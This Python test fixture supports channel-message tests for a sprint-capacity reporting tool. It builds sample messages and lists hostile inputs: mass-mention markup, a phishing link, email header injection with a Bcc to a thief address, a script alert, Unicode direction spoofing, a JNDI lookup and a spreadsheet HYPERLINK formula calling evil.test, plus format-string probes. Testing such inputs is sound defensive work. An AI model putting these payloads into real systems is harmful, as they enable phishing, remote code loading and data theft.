"""A message for the channels' tests, and texts that try to be more than text."""

from typing import Any

from rules.capacity.model import Level
from rules.messages import Audience, Message
from tests.factories import NOW

HOSTILE = (
    "<!here> <!channel> <@U024BE7LH> <#C024BE7LR|general>",
    "@here @channel @everyone",
    "<https://evil.test|Open the report>",
    "https://evil.test/login",
    "&lt;!here&gt;",
    "a\r\nBcc: thief@evil.test\r\n\r\n<script>alert(1)</script>",
    "one\u2028two\u0085three\x0bfour",
    "\u202etxt.exe\u202c \u2066hidden\u2069",
    "\x1b[31mred\x1b[0m\x00",
    "{{ 7 * 7 }} ${jndi:ldap://evil.test} %s %n",
    '=HYPERLINK("https://evil.test")',
    "half a pair \ud800",
)


def message(**overrides: Any) -> Message:
    values: dict[str, Any] = {
        "audience": Audience.SM,
        "team": "Payments",
        "title": "Payments: before planning Sprint 7",
        "lines": ("Availability: 15 of 20 person-days.", "Plannable: 12 points."),
        "occasions": ("planning Shop Payments 7",),
        "at": NOW,
        "level": Level.RED,
        "link": "https://reports.example.com/shop",
    }
    return Message(**(values | overrides))
